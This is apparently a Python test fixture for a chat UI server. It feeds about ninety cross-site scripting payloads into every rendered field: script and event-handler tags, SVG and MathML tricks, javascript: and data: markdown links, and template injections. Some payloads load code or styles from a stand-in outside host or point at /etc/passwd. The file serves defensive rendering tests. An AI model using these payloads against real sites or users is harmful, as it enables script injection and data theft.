"""Texts that try to run code where they are shown, and a server that says them in every field."""

from datetime import UTC, datetime

from chatlab import (
    Action,
    AssistantMessage,
    Button,
    Card,
    ChatKitServer,
    Form,
    Input,
    RequestContext,
    Row,
    Select,
    Task,
    Text,
    ThreadMetadata,
    ToolStatus,
    Widget,
)

BLACK_HAT = "http://elsewhere.test"

TAGS = (
    "<script>pwn(1)</script>",
    "<ScRiPt src=//elsewhere.test/pwn.js></ScRiPt>",
    "<script>pwn(2)//",
    "<<script>pwn(3)//<</script>",
    "<script\x0c>pwn(4)</script>",
    "</script><script>pwn(5)</script>",
    "<img src=x onerror=pwn(6)>",
    "<img src=x onerror='pwn(7)'//",
    '<img src="/pwn.png">',
    "<IMG SRC=jAvAsCrIpT:pwn(8)>",
    "<img/src/onerror=pwn(9)>",
    "<img src=`x`onerror=pwn(10)>",
    "<image src=x onerror=pwn(11)>",
    "<svg onload=pwn(12)>",
    "<svg><script>pwn(13)</script></svg>",
    "<svg><animate onbegin=pwn(14) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwn(15)><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwn(16)>#x'></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwn(17)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn(18)></style></mglyph></table>",
    "<iframe src=javascript:pwn(19)></iframe>",
    "<iframe srcdoc='<script>parent.pwn(20)</script>'></iframe>",
    f"<iframe src={BLACK_HAT}/pwn></iframe>",
    "<object data=javascript:pwn(21)></object>",
    "<embed src=javascript:pwn(22)>",
    "<base href=http://elsewhere.test/>",
    "<link rel=stylesheet href=http://elsewhere.test/pwn.css>",
    "<meta http-equiv=refresh content='0;url=javascript:pwn(23)'>",
    "<style>@import 'http://elsewhere.test/pwn.css';</style>",
    "<style>*{background:url(http://elsewhere.test/pwn)}</style>",
    "<div style='background:url(http://elsewhere.test/pwn)'>x</div>",
    "<body onload=pwn(24)>",
    "<details open ontoggle=pwn(25)>x</details>",
    "<input autofocus onfocus=pwn(26)>",
    "<select autofocus onfocus=pwn(27)><option>x</select>",
    "<video><source onerror=pwn(28)></video>",
    "<audio src=x onerror=pwn(29)>",
    "<marquee onstart=pwn(30)>x</marquee>",
    "<form action=javascript:pwn(31)><button>x</button></form>",
    "<button formaction=javascript:pwn(32)>x</button>",
    "<a href=javascript:pwn(33)>x</a>",
    "<a href=http://elsewhere.test/pwn ping=http://elsewhere.test/pwn>x</a>",
    "<template><script>pwn(34)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn(35)>'>",
    "<textarea><img title='</textarea><img src=x onerror=pwn(36)>'>",
    "<title></title><img src=x onerror=pwn(37)>",
    "<!--><img src=x onerror=pwn(38)>-->",
    "<![CDATA[<img src=x onerror=pwn(39)>]]>",
    "<xss id=x tabindex=1 onfocus=pwn(40)></xss>",
)
QUOTES = (
    '"><img src=x onerror=pwn(50)>',
    "'><svg/onload=pwn(51)>",
    '" autofocus onfocus=pwn(52) x="',
    "' onmouseover='pwn(53)",
    "</span></article><script>pwn(54)</script>",
    "</textarea></div><img src=x onerror=pwn(55)>",
    "`${pwn(56)}`",
    "{{constructor.constructor('pwn(57)')()}}",
    "&lt;script&gt;pwn(58)&lt;/script&gt;",
    "&#60;img src=x onerror=pwn(59)&#62;",
    "\\u003cimg src=x onerror=pwn(60)\\u003e",
    "\x1b[31m<img src=x onerror=pwn(61)>\x1b[0m",
    "__proto__",
    "onsubmit",
    "innerHTML",
)
MARKDOWN = (
    "[x](javascript:pwn(70))",
    "[x](JaVaScRiPt:pwn(71))",
    "[x](java\tscript:pwn(72))",
    "[x](&#106;avascript:pwn(73))",
    "[x](javascript&colon;pwn(74))",
    "[x](\x01javascript:pwn(75))",
    "[x](vbscript:pwn(76))",
    "[x](data:text/html,<script>pwn(77)</script>)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduKCk+)",
    "[x](data:image/png;base64,AAAA)",
    "[x](//elsewhere.test/pwn)",
    "[x](/\\elsewhere.test/pwn)",
    "[x](file:///etc/passwd)",
    "[x](blob:http://elsewhere.test/pwn)",
    "[x](http:///elsewhere.test/pwn)",
    '[x](http://a.test/" onmouseover="pwn(78))',
    '[x](http://a.test "title\\" onmouseover=\\"pwn(79)")',
    "![x](http://elsewhere.test/pwn.png)",
    "![x](data:image/svg+xml,<svg/onload=pwn(80)>)",
    "![x][y]\n\n[y]: http://elsewhere.test/pwn.png",
    "[x][z]\n\n[z]: javascript:pwn(81)",
    "<javascript:pwn(82)>",
    "<http://elsewhere.test/<script>pwn(83)</script>>",
    "[<img src=x onerror=pwn(84)>](http://a.test)",
    "| <img src=x onerror=pwn(85)> |\n|---|\n| <script>pwn(86)</script> |",
    "# <img src=x onerror=pwn(87)>",
    '```"><img src=x onerror=pwn(88)>\ncode\n```',
    "```html\n<script>pwn(89)</script>\n```",
    "`<script>pwn(90)</script>`",
)
PAYLOADS = (*TAGS, *QUOTES, *MARKDOWN)
BATCHES = tuple(PAYLOADS[start : start + 8] for start in range(0, len(PAYLOADS), 8))

MALLORY = RequestContext(user_id="mallory").model_copy(update={"user_id": " ".join(PAYLOADS)})


def everything(payload):
    """A widget with the payload in every field that it has."""
    field = (
        Input(name=payload, label=payload, value=payload),
        Select(name=f"{payload} ", label=payload, options=(payload, "x"), value=payload),
    )
    action = Action(type=payload, payload={payload: payload})
    row = Row(children=(Text(value=payload), Button(label=payload, action=action)))
    return Card(title=payload, children=(row, Form(children=field, action=action, submit=payload)))


class Parrot(ChatKitServer):
    """Says each payload of one batch in each field of each event, and fails with it."""

    async def respond(self, thread, input, context):
        batch = BATCHES[int(input.content.partition(" ")[0])]
        for payload in batch:
            yield ToolStatus(tool=payload, status="running", detail=payload, call_id=payload)
            yield ToolStatus(
                tool=payload,
                status="failed",
                detail=payload,
                call_id=payload,
                arguments={payload: payload},
                output=payload,
            )
            yield Task(title=payload, progress=0.5)
        for payload in batch:
            yield AssistantMessage(content=f"{payload}\n\n")
        yield Widget(root=Row(children=tuple(map(everything, batch))))
        raise ValueError(" ".join(batch))


async def titled(store):
    """A conversation of Mallory's with all payloads in its title."""
    now = datetime(2026, 1, 5, 9, 0, tzinfo=UTC)
    thread = ThreadMetadata(
        id="thr_mallory",
        user_id=MALLORY.user_id,
        created_at=now,
        updated_at=now,
        title=MALLORY.user_id,
    )
    await store.save_thread(thread, MALLORY)
    return thread.id


async def attack(chat):
    """Say all of it."""
    for number, batch in enumerate(BATCHES):
        await chat.say(f"{number} " + "\n\n".join(batch))
